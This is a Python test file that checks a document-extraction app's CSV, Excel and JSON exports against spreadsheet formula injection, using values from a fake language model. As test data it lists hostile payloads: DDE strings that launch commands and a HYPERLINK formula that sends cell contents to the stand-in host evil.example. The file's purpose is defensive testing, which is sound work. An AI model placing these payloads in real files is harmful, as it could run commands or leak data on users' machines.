"""Whatever the model answers, an export never runs anything in a spreadsheet.

Through the whole path: the fake LLM answers formula-like values (and quotes), a real run
stores them, and the CSV and Excel downloads are read back — with the csv module and openpyxl,
and as the raw XML inside the .xlsx — to check that no cell is a formula, while real negative
numbers stay numbers a user can sum.
"""

from __future__ import annotations

import csv
import io
import zipfile
from typing import Any

import httpx
import openpyxl
from fastapi import FastAPI

from quarry.exports.cells import looks_like_formula
from tests.support.api import (
    add_variable,
    create_project,
    sign_up,
    upload,
    wait_for_documents,
    wait_for_run,
)
from tests.support.fake_llm import FakeLLM

API = "/api/v1"
DOCUMENT = "Trial report. The dose was -3.5 mg/kg below baseline; 12 patients withdrew.\n"

# variable name → (variable fields, what the model answers as the value)
HOSTILE: dict[str, tuple[dict[str, Any], Any]] = {
    "t_equals": ({"type": "text"}, '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'),
    "t_dde": ({"type": "text"}, "=cmd|' /C calc'!A0"),
    "t_plus": ({"type": "text"}, "+1+cmd|' /C calc'!A0"),
    "t_minus": ({"type": "text"}, "-2+3+cmd|' /C calc'!A0"),
    "t_at": ({"type": "text"}, "@SUM(1+1)*cmd|' /C calc'!A0"),
    "t_tab": ({"type": "text"}, "\t=1+1"),
    "t_cr": ({"type": "text"}, "\r=1+1"),
    "t_space": ({"type": "text"}, "  =1+1"),
    "t_fullwidth": ({"type": "text"}, "＝1+1"),
    "l_list": ({"type": "list"}, ["=1+1", "harmless"]),
    "c_category": (
        {"type": "category", "allowed_values": ["=SUM(1,2)", "-other", "plain"]},
        "=SUM(1,2)",
    ),
    "n_number": ({"type": "number", "unit": "mg/kg"}, -3.5),
    "i_integer": ({"type": "integer"}, -12),
}
FORMULA_EVIDENCE = '=HYPERLINK("http://evil.example")'


async def run_hostile_answers(
    app: FastAPI, client: httpx.AsyncClient, fake_llm: FakeLLM
) -> tuple[dict[str, str], str]:
    headers = await sign_up(app, client, "analyst@example.org")
    pid = (await create_project(client, headers, "=Injected project"))["id"]
    for name, (fields, value) in HOSTILE.items():
        await add_variable(
            client,
            headers,
            pid,
            name=name,
            label=f"=label of {name}",
            description=f"=description {name}",
            **fields,
        )
        evidence = FORMULA_EVIDENCE if name == "t_equals" else "The dose was -3.5 mg/kg"
        fake_llm.script(
            variable=name,
            reply={"found": True, "evidence": evidence, "value": value, "confidence": 0.9},
        )
    response = await upload(client, headers, pid, [("=trial(1).txt", DOCUMENT.encode(), "")])
    assert response.status_code == 201, response.text
    await wait_for_documents(client, headers, pid)
    response = await client.post(f"{API}/projects/{pid}/runs", json={}, headers=headers)
    assert response.status_code == 202, response.text
    run = await wait_for_run(client, headers, pid, response.json()["id"])
    assert run["status"] == "completed", run
    return headers, pid


def assert_inert_csv_cell(cell: str, where: str) -> None:
    """A cell a spreadsheet would run must have been neutralised — unless it is a number."""
    if looks_like_formula(cell):
        try:
            float(cell)
        except ValueError:
            raise AssertionError(f"{where}: {cell!r} would run as a formula") from None


async def test_formula_answers_are_neutralised_in_csv(
    app: FastAPI, client: httpx.AsyncClient, fake_llm: FakeLLM
) -> None:
    headers, pid = await run_hostile_answers(app, client, fake_llm)
    for layout in ("wide", "long"):
        response = await client.get(
            f"{API}/projects/{pid}/export",
            params={"format": "csv", "layout": layout},
            headers=headers,
        )
        assert response.status_code == 200, response.text
        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
        assert len(rows) > 1
        for r, row in enumerate(rows):
            for c, cell in enumerate(row):
                assert_inert_csv_cell(cell, f"{layout} row {r} column {rows[0][c]}")

        if layout == "wide":
            header, values = rows
            cells = dict(zip(header, values, strict=True))
            assert cells["filename"].startswith("'=")
            for name in HOSTILE:
                if name.startswith(("t_", "c_")):
                    assert cells[name].startswith("'"), (name, cells[name])
            assert cells["l_list"] == "'=1+1; harmless"
            # The user's own figures are numbers, not neutralised text.
            assert cells["n_number"] == "-3.5"
            assert cells["i_integer"] == "-12"
        else:
            table = [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
            evidence = {row["variable"]: row["evidence"] for row in table}
            assert evidence["t_equals"] == "'" + FORMULA_EVIDENCE


async def test_formula_answers_are_text_cells_in_xlsx(
    app: FastAPI, client: httpx.AsyncClient, fake_llm: FakeLLM
) -> None:
    headers, pid = await run_hostile_answers(app, client, fake_llm)
    response = await client.get(
        f"{API}/projects/{pid}/export", params={"format": "xlsx"}, headers=headers
    )
    assert response.status_code == 200, response.text
    data = response.content

    # The raw file: no sheet holds a single formula element.
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                xml = archive.read(name).decode()
                assert "<f>" not in xml and "<f " not in xml, f"formula in {name}"

    workbook = openpyxl.load_workbook(io.BytesIO(data))
    checked = 0
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} = {cell.value!r}"
                if isinstance(cell.value, str) and looks_like_formula(cell.value):
                    # Text, and marked so that editing the cell does not turn it into one.
                    assert cell.data_type == "s", f"{sheet.title}!{cell.coordinate}"
                    assert cell.quotePrefix, f"{sheet.title}!{cell.coordinate}"
                    checked += 1
    assert checked >= len(HOSTILE)  # the hostile values really are in the workbook

    results = workbook["Results"]
    header = [c.value for c in results[1]]
    values = {h: c for h, c in zip(header, results[2], strict=True)}
    assert values["t_equals"].value == HOSTILE["t_equals"][1]  # the text, unchanged
    assert values["c_category"].value == "=SUM(1,2)"
    # A real negative number is a number cell a user can sum, not a formula and not text.
    assert values["n_number"].value == -3.5 and values["n_number"].data_type == "n"
    assert values["i_integer"].value == -12 and values["i_integer"].data_type == "n"


async def test_json_export_keeps_the_exact_values(
    app: FastAPI, client: httpx.AsyncClient, fake_llm: FakeLLM
) -> None:
    """JSON is data, not a spreadsheet: values arrive exactly as extracted (no quote added)."""
    headers, pid = await run_hostile_answers(app, client, fake_llm)
    response = await client.get(
        f"{API}/projects/{pid}/export", params={"format": "json"}, headers=headers
    )
    assert response.status_code == 200
    text = response.text
    assert '"=SUM(1,2)"' in text and "-3.5" in text and "\"'=" not in text
